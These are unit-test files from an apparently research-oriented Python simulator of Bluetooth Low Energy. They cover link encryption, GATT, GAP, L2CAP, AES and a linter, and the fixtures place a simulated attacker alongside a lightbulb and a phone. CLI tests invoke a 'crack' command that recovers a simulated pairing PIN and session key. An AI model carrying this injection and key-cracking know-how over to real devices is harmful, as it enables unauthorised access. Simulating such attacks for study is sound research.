        drift = ppm_drift_us(70.0, 75 * SLOT_US)
        assert drift == pytest.approx(6.5625)

    def test_zero_sca_means_zero_drift(self):
        assert ppm_drift_us(0.0, 1_000_000.0) == 0.0

    def test_scales_linearly_with_interval(self):
        assert ppm_drift_us(50, 2000.0) == 2 * ppm_drift_us(50, 1000.0)

    def test_negative_sca_rejected(self):
        with pytest.raises(ValueError):
            ppm_drift_us(-1.0, 100.0)

    def test_negative_interval_rejected(self):
        with pytest.raises(ValueError):
            ppm_drift_us(10.0, -5.0)
