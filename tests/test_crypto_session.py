"""Unit tests for per-connection link encryption."""

import pytest

from repro.crypto.session import LinkEncryption, MicError
from repro.ll.pdu.data import LLID, DataPdu

KEY = bytes(range(16))


def make_pair():
    master = LinkEncryption(KEY, iv_m=0x11111111, iv_s=0x22222222,
                            is_master=True)
    slave = LinkEncryption(KEY, iv_m=0x11111111, iv_s=0x22222222,
                           is_master=False)
    return master, slave


class TestEncryptDecrypt:
    def test_round_trip_master_to_slave(self):
        master, slave = make_pair()
        pdu = DataPdu.make(LLID.DATA_START, b"payload", sn=1, nesn=0)
        decrypted = slave.decrypt_pdu(master.encrypt_pdu(pdu))
        assert decrypted.payload == b"payload"
        assert decrypted.header.sn == 1

    def test_round_trip_slave_to_master(self):
        master, slave = make_pair()
        pdu = DataPdu.make(LLID.DATA_START, b"response")
        assert master.decrypt_pdu(slave.encrypt_pdu(pdu)).payload == \
            b"response"

    def test_mic_adds_four_bytes(self):
        master, _ = make_pair()
        pdu = DataPdu.make(LLID.DATA_START, b"1234")
        assert master.encrypt_pdu(pdu).header.length == 8

    def test_empty_pdu_passes_through(self):
        master, _ = make_pair()
        pdu = DataPdu.empty(sn=1, nesn=1)
        assert master.encrypt_pdu(pdu) is pdu

    def test_counters_advance_per_packet(self):
        master, slave = make_pair()
        for i in range(5):
            pdu = DataPdu.make(LLID.DATA_START, bytes([i]))
            assert slave.decrypt_pdu(master.encrypt_pdu(pdu)).payload == \
                bytes([i])
        assert master.tx_counter == 5
        assert slave.rx_counter == 5

    def test_same_plaintext_different_ciphertext(self):
        master, _ = make_pair()
        a = master.encrypt_pdu(DataPdu.make(LLID.DATA_START, b"x")).payload
        b = master.encrypt_pdu(DataPdu.make(LLID.DATA_START, b"x")).payload
        assert a != b  # nonce includes the packet counter


class TestMicFailures:
    def test_forged_plaintext_fails(self):
        """An injected unencrypted frame cannot pass the MIC check —
        the paper's §IV encrypted-connection argument."""
        _, slave = make_pair()
        forged = DataPdu.make(LLID.DATA_START, b"\x07\x00\x04\x00forged!")
        with pytest.raises(MicError):
            slave.decrypt_pdu(forged)

    def test_tampered_ciphertext_fails(self):
        master, slave = make_pair()
        enc = master.encrypt_pdu(DataPdu.make(LLID.DATA_START, b"data"))
        tampered = DataPdu.make(enc.header.llid,
                                bytes([enc.payload[0] ^ 1]) + enc.payload[1:],
                                sn=enc.header.sn, nesn=enc.header.nesn)
        with pytest.raises(MicError):
            slave.decrypt_pdu(tampered)

    def test_wrong_direction_fails(self):
        master, _ = make_pair()
        other_master = LinkEncryption(KEY, 0x11111111, 0x22222222,
                                      is_master=True)
        enc = master.encrypt_pdu(DataPdu.make(LLID.DATA_START, b"data"))
        with pytest.raises(MicError):
            other_master.decrypt_pdu(enc)  # master decrypting master traffic

    def test_short_encrypted_pdu_fails(self):
        _, slave = make_pair()
        with pytest.raises(MicError):
            slave.decrypt_pdu(DataPdu.make(LLID.DATA_START, b"abc"))

    def test_rx_counter_not_advanced_on_failure(self):
        master, slave = make_pair()
        enc = master.encrypt_pdu(DataPdu.make(LLID.DATA_START, b"ok"))
        with pytest.raises(MicError):
            slave.decrypt_pdu(DataPdu.make(LLID.DATA_START, b"\x00" * 8))
        # The legitimate frame still decrypts (counter untouched).
        assert slave.decrypt_pdu(enc).payload == b"ok"


class TestRetransmission:
    def test_retransmitted_bits_reuse_ciphertext(self):
        # The AAD masks NESN/SN/MD so a retransmission with flipped bits
        # still authenticates.
        master, slave = make_pair()
        enc = master.encrypt_pdu(DataPdu.make(LLID.DATA_START, b"rt",
                                              sn=0, nesn=0))
        retx = enc.with_bits(sn=0, nesn=1)
        assert slave.decrypt_pdu(retx).payload == b"rt"
