"""Unit tests for the GATT layer: registration, access, notifications."""

import pytest

from repro.errors import HostError
from repro.host.att.pdus import (
    HandleValueNtf,
    ReadReq,
    ReadRsp,
    WriteReq,
    WriteRsp,
    decode_att_pdu,
)
from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.server import GattServer
from repro.host.gatt.uuids import (
    PROP_NOTIFY,
    PROP_READ,
    PROP_WRITE,
    UUID_CCCD,
    UUID_CHARACTERISTIC,
    UUID_DEVICE_NAME,
    UUID_GAP_SERVICE,
    UUID_PRIMARY_SERVICE,
)


@pytest.fixture
def server():
    gatt = GattServer()
    gap = Service(UUID_GAP_SERVICE)
    gap.add(Characteristic(UUID_DEVICE_NAME, value=b"dev", read=True,
                           write=True))
    gatt.register(gap)
    custom = Service(0xFF10)
    custom.add(Characteristic(0xFF11, read=False, write=True))
    custom.add(Characteristic(0xFF12, value=b"\x05", read=True, notify=True))
    gatt.register(custom)
    return gatt


def ask(server, pdu):
    raw = server.handle_request(pdu.to_bytes())
    return decode_att_pdu(raw) if raw is not None else None


class TestRegistration:
    def test_db_layout(self, server):
        # GAP: svc(1), decl(2), value(3); custom: svc(4), decl(5), value(6),
        # decl(7), value(8), cccd(9).
        handles = server.db.handles()
        assert handles == list(range(1, 10))
        assert server.db.get(1).type_uuid == UUID_PRIMARY_SERVICE
        assert server.db.get(2).type_uuid == UUID_CHARACTERISTIC
        assert server.db.get(9).type_uuid == UUID_CCCD

    def test_declaration_value(self, server):
        char = server.find_characteristic(UUID_DEVICE_NAME)
        decl = server.db.get(char.value_handle - 1)
        props = decl.value[0]
        assert props & PROP_READ and props & PROP_WRITE
        assert int.from_bytes(decl.value[1:3], "little") == char.value_handle
        assert int.from_bytes(decl.value[3:5], "little") == UUID_DEVICE_NAME

    def test_cccd_only_for_notifying_chars(self, server):
        assert server.find_characteristic(0xFF12).cccd_handle != 0
        assert server.find_characteristic(0xFF11).cccd_handle == 0

    def test_find_characteristic(self, server):
        assert server.find_characteristic(0xFF11) is not None
        assert server.find_characteristic(0xDEAD) is None


class TestAccess:
    def test_read_through_att(self, server):
        char = server.find_characteristic(UUID_DEVICE_NAME)
        assert ask(server, ReadReq(char.value_handle)) == ReadRsp(b"dev")

    def test_write_updates_characteristic(self, server):
        char = server.find_characteristic(0xFF11)
        ask(server, WriteReq(char.value_handle, b"\x01"))
        assert char.value == b"\x01"

    def test_on_write_hook(self, server):
        calls = []
        char = server.find_characteristic(0xFF11)
        char.on_write = calls.append
        ask(server, WriteReq(char.value_handle, b"\x02"))
        assert calls == [b"\x02"]

    def test_on_read_hook(self, server):
        char = server.find_characteristic(0xFF12)
        char.on_read = lambda: b"\x63"
        assert ask(server, ReadReq(char.value_handle)) == ReadRsp(b"\x63")


class TestNotifications:
    def test_not_sent_without_subscription(self, server):
        sent = []
        server.send = sent.append
        char = server.find_characteristic(0xFF12)
        assert not server.notify(char, b"\x07")
        assert sent == []

    def test_sent_after_cccd_write(self, server):
        sent = []
        server.send = sent.append
        char = server.find_characteristic(0xFF12)
        ask(server, WriteReq(char.cccd_handle, b"\x01\x00"))
        assert server.notify(char, b"\x07")
        assert decode_att_pdu(sent[-1]) == HandleValueNtf(char.value_handle,
                                                          b"\x07")

    def test_force_bypasses_cccd(self, server):
        sent = []
        server.send = sent.append
        char = server.find_characteristic(0xFF12)
        assert server.notify(char, b"\x07", force=True)

    def test_indicate_requires_indication_bit(self, server):
        sent = []
        server.send = sent.append
        char = server.find_characteristic(0xFF12)
        ask(server, WriteReq(char.cccd_handle, b"\x01\x00"))  # notify only
        assert not server.indicate(char, b"\x07")

    def test_notify_without_transport_raises(self, server):
        char = server.find_characteristic(0xFF12)
        with pytest.raises(HostError):
            server.notify(char, b"\x07")


class TestCharacteristicObject:
    def test_properties_bitfield(self):
        char = Characteristic(0x1234, read=True, notify=True)
        assert char.properties == PROP_READ | PROP_NOTIFY

    def test_declaration_requires_registration(self):
        with pytest.raises(HostError):
            Characteristic(0x1234).declaration_value()

    def test_service_find(self):
        service = Service(0xAAAA)
        char = service.add(Characteristic(0xBBBB))
        assert service.find(0xBBBB) is char
        assert service.find(0xCCCC) is None
