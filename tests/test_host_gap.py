"""Unit tests for GAP advertising-data codecs."""

import pytest

from repro.errors import CodecError
from repro.host.gap import (
    AD_COMPLETE_LOCAL_NAME,
    AD_FLAGS,
    AdElement,
    adv_data_with_name,
    build_adv_data,
    local_name_of,
    parse_adv_data,
)


class TestAdStructures:
    def test_element_encoding(self):
        element = AdElement(AD_FLAGS, b"\x06")
        assert element.to_bytes() == b"\x02\x01\x06"

    def test_build_and_parse_round_trip(self):
        data = build_adv_data(
            AdElement(AD_FLAGS, b"\x06"),
            AdElement(AD_COMPLETE_LOCAL_NAME, b"bulb"),
        )
        elements = parse_adv_data(data)
        assert [(e.ad_type, e.data) for e in elements] == [
            (AD_FLAGS, b"\x06"),
            (AD_COMPLETE_LOCAL_NAME, b"bulb"),
        ]

    def test_31_byte_limit(self):
        with pytest.raises(CodecError):
            build_adv_data(AdElement(0x09, bytes(31)))

    def test_truncated_structure_rejected(self):
        with pytest.raises(CodecError):
            parse_adv_data(b"\x05\x09ab")

    def test_zero_length_terminates(self):
        data = b"\x02\x01\x06\x00\xff\xff"
        assert len(parse_adv_data(data)) == 1


class TestLocalName:
    def test_name_helper(self):
        data = adv_data_with_name("keyfob")
        assert local_name_of(data) == "keyfob"

    def test_no_name_returns_empty(self):
        data = build_adv_data(AdElement(AD_FLAGS, b"\x06"))
        assert local_name_of(data) == ""

    def test_shortened_name_found(self):
        data = build_adv_data(AdElement(0x08, b"wat"))
        assert local_name_of(data) == "wat"
