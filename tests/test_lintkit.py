"""Tests for the repro.lintkit static-analysis pass.

Three layers:

* **Fixture trees** under ``tests/data/lintkit``: ``bad/`` holds one
  deliberate violation per checker (plus an inline-waived one), ``good/``
  holds the compliant twin of every bad snippet.  Each checker must fire
  on its bad fixture and stay silent on the whole good tree.
* **Golden report**: the JSON rendering of the bad tree is pinned byte
  for byte, so report shape and fingerprints cannot drift silently.
* **Meta-test**: the live ``repro`` package has zero findings beyond the
  committed ``lint-baseline.json`` — the same gate CI enforces.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.cli import main
from repro.lintkit import (
    ALL_CHECKERS,
    Baseline,
    checker_index,
    default_package_root,
    load_baseline,
    run_lint,
    save_baseline,
)

FIXTURES = Path(__file__).parent / "data" / "lintkit"
BAD_TREE = FIXTURES / "bad"
GOOD_TREE = FIXTURES / "good"
GOLDEN_REPORT = FIXTURES / "golden_report.json"
REPO_BASELINE = default_package_root().parent.parent / "lint-baseline.json"

#: checker id -> (fixture path fragment, message fragment) expected in bad/.
EXPECTED_BAD = {
    "nondeterministic-call": ("core/clockleak.py", "nondeterministic"),
    "set-iteration": ("sim/hot.py", "iteration over a set"),
    "float-time-eq": ("sim/hot.py", "==/!="),
    "magic-number": ("ll/spacing.py", "T_IFS_US"),
    "missing-slots": ("sim/events.py", "__slots__"),
    "telemetry-guard": ("sim/hot.py", "guard"),
    "result-capture": ("experiments/results.py", "Simulator"),
    "missing-docstring": ("analysis/undocumented.py", "docstring"),
    "blocking-in-async": ("campaign/service/async_path.py", "stalls the event loop"),
    "rng-flow": ("telemetry/reporters.py", "RNG substream"),
    "error-taxonomy": ("campaign/service/worker.py", "ValueError"),
    "protocol-conformance": ("campaign/service/coordinator.py", "no handler"),
}


class TestFixtureTrees:
    def test_every_checker_fires_on_bad_tree(self):
        report = run_lint(BAD_TREE)
        fired = {f.checker for f in report.findings}
        assert fired == set(c.id for c in ALL_CHECKERS)

    @pytest.mark.parametrize("checker_id", sorted(EXPECTED_BAD))
    def test_bad_fixture_flags_expected_site(self, checker_id):
        path_frag, msg_frag = EXPECTED_BAD[checker_id]
        report = run_lint(BAD_TREE)
        hits = [f for f in report.findings if f.checker == checker_id]
        assert hits, f"{checker_id} produced no findings on bad/"
        assert any(path_frag in f.path and msg_frag in f.message
                   for f in hits), [f.render() for f in hits]

    @pytest.mark.parametrize("checker_id", sorted(EXPECTED_BAD))
    def test_good_tree_is_silent(self, checker_id):
        report = run_lint(GOOD_TREE, checkers=[checker_index()[checker_id]])
        assert report.findings == [], [f.render() for f in report.findings]
        assert report.ok

    def test_inline_waiver_suppresses_exactly_one(self):
        report = run_lint(BAD_TREE)
        assert len(report.suppressed) == 1
        (waived,) = report.suppressed
        assert waived.checker == "telemetry-guard"
        assert waived.path == "sim/hot.py"

    def test_findings_are_sorted_and_fingerprinted(self):
        report = run_lint(BAD_TREE)
        keys = [f.sort_key() for f in report.findings]
        assert keys == sorted(keys)
        fps = [f.fingerprint for f in report.findings]
        assert all(len(fp) == 16 for fp in fps)
        assert len(set(fps)) == len(fps), "fingerprints must be unique"


class TestGoldenReport:
    def test_bad_tree_json_matches_golden(self):
        report = run_lint(BAD_TREE)
        golden = GOLDEN_REPORT.read_text()
        assert report.to_json() + "\n" == golden, (
            "lint report for tests/data/lintkit/bad drifted from the "
            "golden copy; if the change is intentional regenerate with "
            "run_lint(BAD_TREE).to_json()"
        )

    def test_golden_report_shape(self):
        doc = json.loads(GOLDEN_REPORT.read_text())
        assert doc["version"] == 1
        assert doc["ok"] is False
        assert doc["counts"]["findings"] == len(doc["findings"])
        assert doc["counts"]["suppressed"] == 1
        for entry in doc["findings"]:
            assert set(entry) == {"checker", "path", "line", "col",
                                  "message", "snippet", "fingerprint"}
            # Relative POSIX paths only: golden file is machine-portable.
            assert not entry["path"].startswith("/")


class TestBaselineMechanics:
    def test_baseline_grandfathers_findings(self, tmp_path):
        report = run_lint(BAD_TREE)
        path = tmp_path / "baseline.json"
        save_baseline(path, report.findings, reason="fixture grandfather")
        rebaselined = run_lint(BAD_TREE, baseline=load_baseline(path))
        assert rebaselined.findings == []
        assert len(rebaselined.baselined) == len(report.findings)
        assert rebaselined.ok

    def test_stale_baseline_entries_reported(self, tmp_path):
        report = run_lint(BAD_TREE)
        path = tmp_path / "baseline.json"
        save_baseline(path, report.findings, reason="fixture grandfather")
        doc = json.loads(path.read_text())
        doc["entries"]["deadbeefdeadbeef"] = {
            "checker": "magic-number", "path": "gone.py",
            "message": "fixed long ago", "reason": "stale",
        }
        path.write_text(json.dumps(doc))
        rebaselined = run_lint(BAD_TREE, baseline=load_baseline(path))
        assert rebaselined.stale_baseline == ["deadbeefdeadbeef"]

    def test_missing_baseline_file_is_empty(self, tmp_path):
        baseline = load_baseline(tmp_path / "nope.json")
        assert isinstance(baseline, Baseline)
        assert not baseline.entries

    def test_fingerprints_survive_line_drift(self, tmp_path):
        """Inserting lines above a finding must not churn the baseline."""
        src = tmp_path / "ll"
        src.mkdir()
        (src / "spacing.py").write_text(
            "def deadline(end_us):\n    return end_us + 150.0\n")
        before = run_lint(tmp_path).findings
        (src / "spacing.py").write_text(
            "# comment\n# another\n\n"
            "def deadline(end_us):\n    return end_us + 150.0\n")
        after = run_lint(tmp_path).findings
        assert [f.fingerprint for f in before] == \
            [f.fingerprint for f in after]
        assert before[0].line != after[0].line


class TestLiveTree:
    def test_repo_has_no_findings_beyond_baseline(self):
        """The gate CI enforces: zero non-baselined findings on src/repro."""
        baseline = load_baseline(REPO_BASELINE)
        report = run_lint(baseline=baseline)
        assert report.ok, "\n" + "\n".join(
            f.render() for f in report.findings)
        assert not report.stale_baseline

    def test_repo_baseline_is_small_and_documented(self):
        baseline = load_baseline(REPO_BASELINE)
        assert len(baseline.entries) <= 10, (
            "the baseline is for grandfathered findings only; fix new "
            "findings instead of baselining them")
        for entry in baseline.entries.values():
            assert entry.get("reason"), "every baseline entry needs a reason"


class TestCli:
    def test_lint_cli_passes_on_repo(self, capsys):
        assert main(["lint", "--baseline", str(REPO_BASELINE)]) == 0
        out = capsys.readouterr().out
        assert "0 finding(s)" in out

    def test_lint_cli_fails_on_bad_tree(self, capsys):
        code = main(["lint", "--root", str(BAD_TREE),
                     "--baseline", str(BAD_TREE / "absent.json")])
        assert code == 1
        out = capsys.readouterr().out
        assert "[telemetry-guard]" in out

    def test_lint_cli_json_format(self, capsys):
        code = main(["lint", "--format", "json", "--root", str(GOOD_TREE),
                     "--baseline", str(GOOD_TREE / "absent.json")])
        assert code == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["ok"] is True
        assert doc["counts"]["findings"] == 0

    def test_lint_cli_write_baseline_roundtrip(self, tmp_path, capsys):
        target = tmp_path / "baseline.json"
        assert main(["lint", "--root", str(BAD_TREE),
                     "--baseline", str(target), "--write-baseline"]) == 0
        capsys.readouterr()
        assert target.exists()
        assert main(["lint", "--root", str(BAD_TREE),
                     "--baseline", str(target)]) == 0


class TestInlineEpsilonRule:
    """float-time-eq's second clause: no ad-hoc epsilon literals in time
    comparisons — the canonical ``sim.events.TIME_EPS_US`` must be used."""

    CHECKER = "float-time-eq"

    def _lint(self, tmp_path, source: str, rel="sim/hot.py"):
        target = tmp_path / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(source)
        return run_lint(tmp_path, checkers=[checker_index()[self.CHECKER]])

    def test_inline_epsilon_literal_flagged(self, tmp_path):
        report = self._lint(tmp_path, (
            '"""Doc."""\n'
            "def late(start_us, now):\n"
            '    """Doc."""\n'
            "    return now > start_us + 1e-9\n"
        ))
        assert any("TIME_EPS_US" in f.message for f in report.findings), \
            [f.render() for f in report.findings]

    def test_canonical_constant_is_silent(self, tmp_path):
        report = self._lint(tmp_path, (
            '"""Doc."""\n'
            "from repro.sim.events import TIME_EPS_US\n"
            "def late(start_us, now):\n"
            '    """Doc."""\n'
            "    return now > start_us + TIME_EPS_US\n"
        ))
        assert report.findings == [], [f.render() for f in report.findings]

    def test_genuine_offsets_are_silent(self, tmp_path):
        # Real protocol offsets (>= 0.5 us) are not tolerances.
        report = self._lint(tmp_path, (
            '"""Doc."""\n'
            "def due(start_us, now):\n"
            '    """Doc."""\n'
            "    return now > start_us + 150.0\n"
        ))
        assert report.findings == [], [f.render() for f in report.findings]

    def test_defining_module_is_exempt(self, tmp_path):
        report = self._lint(tmp_path, (
            '"""Doc."""\n'
            "def late(start_us, now):\n"
            '    """Doc."""\n'
            "    return now > start_us + 1e-9\n"
        ), rel="sim/events.py")
        assert report.findings == [], [f.render() for f in report.findings]
