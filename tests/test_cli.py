"""Tests for the command-line interface."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_experiment_defaults(self):
        args = build_parser().parse_args(["experiment", "hop"])
        assert args.which == "hop"
        assert args.connections == 10

    def test_scenario_device_choices(self):
        args = build_parser().parse_args(
            ["scenario", "b", "--device", "keyfob"])
        assert args.which == "b" and args.device == "keyfob"

    def test_profile_defaults(self):
        args = build_parser().parse_args(["profile", "hop"])
        assert args.which == "hop"
        assert args.connections == 2
        assert args.top == 20

    def test_profile_rejects_unknown_experiment(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["profile", "frobnicate"])

    def test_unknown_command_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_command_required(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])


class TestCommands:
    def test_experiment_payload_small(self, capsys):
        code = main(["experiment", "payload", "--connections", "3",
                     "--seed", "5"])
        out = capsys.readouterr().out
        assert code == 0
        assert "PDU size" in out
        assert "worst-case success rate: 1.00" in out

    def test_scenario_a(self, capsys):
        code = main(["scenario", "a", "--device", "bulb", "--seed", "1100"])
        out = capsys.readouterr().out
        assert code == 0
        assert "OK" in out

    def test_capture(self, capsys):
        code = main(["capture", "--duration", "1.2", "--limit", "10"])
        out = capsys.readouterr().out
        assert code == 0
        assert "CONNECT_REQ" in out
        assert "frames captured" in out

    def test_profile_prints_cumulative_hot_paths(self, capsys):
        code = main(["profile", "hop", "--connections", "1", "--top", "5"])
        out = capsys.readouterr().out
        assert code == 0
        assert "Ordered by: cumulative time" in out
        assert "run_single_trial" in out or "run_trials" in out

    def test_crack(self, capsys):
        code = main(["crack", "--seed", "90"])
        out = capsys.readouterr().out
        assert code == 0
        assert "TK (PIN) : 0" in out
        assert "LL session key" in out
