"""Tests for the command-line interface."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_experiment_defaults(self):
        args = build_parser().parse_args(["experiment", "hop"])
        assert args.which == "hop"
        assert args.connections == 10

    def test_scenario_device_choices(self):
        args = build_parser().parse_args(
            ["scenario", "b", "--device", "keyfob"])
        assert args.which == "b" and args.device == "keyfob"

    def test_profile_defaults(self):
        args = build_parser().parse_args(["profile", "hop"])
        assert args.which == "hop"
        assert args.connections == 2
        assert args.top == 20

    def test_profile_rejects_unknown_experiment(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["profile", "frobnicate"])

    def test_unknown_command_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_command_required(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])


class TestCommands:
    def test_experiment_payload_small(self, capsys):
        code = main(["experiment", "payload", "--connections", "3",
                     "--seed", "5"])
        out = capsys.readouterr().out
        assert code == 0
        assert "PDU size" in out
        assert "worst-case success rate: 1.00" in out

    def test_scenario_a(self, capsys):
        code = main(["scenario", "a", "--device", "bulb", "--seed", "1100"])
        out = capsys.readouterr().out
        assert code == 0
        assert "OK" in out

    def test_capture(self, capsys):
        code = main(["capture", "--duration", "1.2", "--limit", "10"])
        out = capsys.readouterr().out
        assert code == 0
        assert "CONNECT_REQ" in out
        assert "frames captured" in out

    def test_capture_pcap_roundtrips(self, capsys, tmp_path):
        from repro.telemetry import pcap_bytes, read_pcap

        path = tmp_path / "out.pcap"
        code = main(["capture", "--duration", "1.2", "--format", "pcap",
                     "--output", str(path)])
        out = capsys.readouterr().out
        assert code == 0 and str(path) in out
        frames = read_pcap(path)
        assert frames and pcap_bytes(frames) == path.read_bytes()
        assert all(f.crc_ok for f in frames)

    def test_capture_jsonl(self, capsys, tmp_path):
        from repro.telemetry.sinks import read_jsonl

        path = tmp_path / "out.jsonl"
        code = main(["capture", "--duration", "1.2", "--format", "jsonl",
                     "--output", str(path)])
        assert code == 0
        rows = read_jsonl(path)
        assert rows and {"time_us", "channel", "pdu"} <= rows[0].keys()

    def test_capture_scenario_pcap(self, capsys, tmp_path):
        from repro.telemetry import pcap_bytes, read_pcap

        path = tmp_path / "scen.pcap"
        code = main(["capture", "--format", "pcap", "--scenario", "a",
                     "--seed", "1100", "--output", str(path)])
        out = capsys.readouterr().out
        assert code == 0
        assert "scenario A" in out
        frames = read_pcap(path)
        assert frames and pcap_bytes(frames) == path.read_bytes()

    def test_metrics_consistent_across_jobs(self, capsys):
        code = main(["metrics", "payload", "--connections", "2",
                     "--jobs", "1"])
        serial = capsys.readouterr().out
        assert code == 0
        code = main(["metrics", "payload", "--connections", "2",
                     "--jobs", "4"])
        pooled = capsys.readouterr().out
        assert code == 0
        assert pooled == serial
        assert "medium.tx" in serial
        assert "inject.attempts" in serial
        assert "medium.collisions" in serial or "medium.rx" in serial

    def test_profile_prints_cumulative_hot_paths(self, capsys):
        code = main(["profile", "hop", "--connections", "1", "--top", "5"])
        out = capsys.readouterr().out
        assert code == 0
        assert "Ordered by: cumulative time" in out
        # The trial-execution chain must dominate cumulative time; the
        # entry point is run_trial_units since the campaign refactor.
        assert "run_trial_units" in out or "parallel_map" in out

    def test_crack(self, capsys):
        code = main(["crack", "--seed", "90"])
        out = capsys.readouterr().out
        assert code == 0
        assert "TK (PIN) : 0" in out
        assert "LL session key" in out
