"""Unit tests for L2CAP basic-mode framing."""

import pytest

from repro.errors import HostError
from repro.host.l2cap import CID_ATT, CID_SMP, l2cap_decode, l2cap_encode


class TestL2cap:
    def test_round_trip(self):
        frame = l2cap_encode(CID_ATT, b"\x0a\x03\x00")
        assert l2cap_decode(frame) == (CID_ATT, b"\x0a\x03\x00")

    def test_header_layout(self):
        frame = l2cap_encode(0x0006, b"ab")
        assert frame[:2] == b"\x02\x00"  # length LE
        assert frame[2:4] == b"\x06\x00"  # CID LE

    def test_cids(self):
        assert CID_ATT == 0x0004
        assert CID_SMP == 0x0006

    def test_empty_payload(self):
        assert l2cap_decode(l2cap_encode(CID_ATT, b"")) == (CID_ATT, b"")

    def test_length_mismatch_rejected(self):
        frame = l2cap_encode(CID_ATT, b"abc")
        with pytest.raises(HostError):
            l2cap_decode(frame + b"\x00")

    def test_short_frame_rejected(self):
        with pytest.raises(HostError):
            l2cap_decode(b"\x00\x00\x04")

    def test_invalid_cid_rejected(self):
        with pytest.raises(HostError):
            l2cap_encode(1 << 16, b"x")
