"""Unit tests for the pure-Python AES-128 (FIPS-197 vectors)."""

import pytest

from repro.crypto.aes import aes128_encrypt_block, expand_key
from repro.errors import SecurityError


class TestKnownVectors:
    def test_fips197_appendix_c(self):
        key = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
        plaintext = bytes.fromhex("00112233445566778899aabbccddeeff")
        expected = bytes.fromhex("69c4e0d86a7b0430d8cdb78070b4c55a")
        assert aes128_encrypt_block(key, plaintext) == expected

    def test_nist_sp800_38a_ecb_vector(self):
        key = bytes.fromhex("2b7e151628aed2a6abf7158809cf4f3c")
        plaintext = bytes.fromhex("6bc1bee22e409f96e93d7e117393172a")
        expected = bytes.fromhex("3ad77bb40d7a3660a89ecaf32466ef97")
        assert aes128_encrypt_block(key, plaintext) == expected

    def test_all_zero_vector(self):
        key = bytes(16)
        plaintext = bytes(16)
        expected = bytes.fromhex("66e94bd4ef8a2c3b884cfa59ca342b2e")
        assert aes128_encrypt_block(key, plaintext) == expected


class TestKeySchedule:
    def test_eleven_round_keys(self):
        round_keys = expand_key(bytes(16))
        assert len(round_keys) == 11
        assert all(len(rk) == 16 for rk in round_keys)

    def test_first_round_key_is_the_key(self):
        key = bytes(range(16))
        assert expand_key(key)[0] == key

    def test_fips197_first_expanded_word(self):
        key = bytes.fromhex("2b7e151628aed2a6abf7158809cf4f3c")
        round_keys = expand_key(key)
        # w[4..7] from FIPS-197 A.1.
        assert round_keys[1] == bytes.fromhex(
            "a0fafe1788542cb123a339392a6c7605")


class TestBehaviour:
    def test_deterministic(self):
        key, block = bytes(16), bytes(range(16))
        assert aes128_encrypt_block(key, block) == \
            aes128_encrypt_block(key, block)

    def test_key_sensitivity(self):
        block = bytes(16)
        a = aes128_encrypt_block(bytes(16), block)
        b = aes128_encrypt_block(bytes(15) + b"\x01", block)
        assert a != b

    def test_plaintext_sensitivity(self):
        key = bytes(16)
        a = aes128_encrypt_block(key, bytes(16))
        b = aes128_encrypt_block(key, bytes(15) + b"\x01")
        # Avalanche: roughly half the 128 bits flip.
        diff = sum(bin(x ^ y).count("1") for x, y in zip(a, b))
        assert 40 < diff < 90

    def test_wrong_key_length_rejected(self):
        with pytest.raises(SecurityError):
            aes128_encrypt_block(bytes(15), bytes(16))

    def test_wrong_block_length_rejected(self):
        with pytest.raises(SecurityError):
            aes128_encrypt_block(bytes(16), bytes(8))
