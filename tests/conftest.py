"""Shared fixtures: simulated worlds at several assembly levels."""

from __future__ import annotations

import pytest

from repro.devices import Keyfob, Lightbulb, Smartphone, Smartwatch
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


@pytest.fixture
def sim() -> Simulator:
    """A fresh deterministic simulator."""
    return Simulator(seed=1234)


@pytest.fixture
def triangle_world():
    """Simulator + medium with a 2 m equilateral triangle topology.

    Returns a factory so tests can choose names and seed.
    """

    def build(names=("peripheral", "central", "attacker"), seed=1234,
              edge_m=2.0):
        simulator = Simulator(seed=seed)
        topology = Topology.equilateral_triangle(tuple(names), edge_m=edge_m)
        medium = Medium(simulator, topology)
        return simulator, medium

    return build


@pytest.fixture
def connected_bulb_world(triangle_world):
    """A lightbulb connected to a smartphone, attacker placement ready.

    Returns (sim, medium, bulb, phone) after the connection settles.
    """

    def build(seed=1234, interval=36, names=("bulb", "phone", "attacker")):
        simulator, medium = triangle_world(names=names, seed=seed)
        bulb = Lightbulb(simulator, medium, names[0])
        phone = Smartphone(simulator, medium, names[1], interval=interval)
        bulb.power_on()
        phone.connect_to(bulb.address)
        simulator.run(until_us=1_500_000)
        assert phone.is_connected and bulb.ll.is_connected
        return simulator, medium, bulb, phone

    return build
