"""Unit tests for the capture-effect collision model."""

import numpy as np
import pytest

from repro.errors import ConfigurationError
from repro.phy.collision import CollisionModel, Overlap
from repro.phy.signal import RadioFrame


def make_frame(pdu_len=14, start=0.0):
    return RadioFrame(access_address=0x12345678, pdu=bytes(pdu_len),
                      crc=0, channel=5, start_us=start, tx_power_dbm=0.0)


class TestSurvivalProbability:
    def test_monotone_in_sir(self):
        model = CollisionModel()
        probs = [model.survival_probability(sir, 100.0)
                 for sir in (-20, -10, 0, 10, 20)]
        assert probs == sorted(probs)

    def test_monotone_in_duration(self):
        # Longer exposed region => lower survival (paper §VII-B shape).
        model = CollisionModel()
        probs = [model.survival_probability(0.0, d)
                 for d in (200, 150, 100, 50, 10)]
        assert probs == sorted(probs)

    def test_strong_signal_nearly_always_survives(self):
        model = CollisionModel()
        assert model.survival_probability(40.0, 50.0) > 0.95

    def test_weak_signal_nearly_always_dies(self):
        model = CollisionModel()
        assert model.survival_probability(-40.0, 150.0) < 0.05

    def test_floor_and_ceiling_respected(self):
        model = CollisionModel(floor_survival=0.01, ceiling_survival=0.9)
        assert model.survival_probability(-100, 500) >= 0.01
        assert model.survival_probability(100, 0) <= 0.9

    def test_phase_shifts_probability(self):
        model = CollisionModel()
        base = model.survival_probability(0.0, 100.0)
        assert model.survival_probability(0.0, 100.0, phase_db=10.0) > base


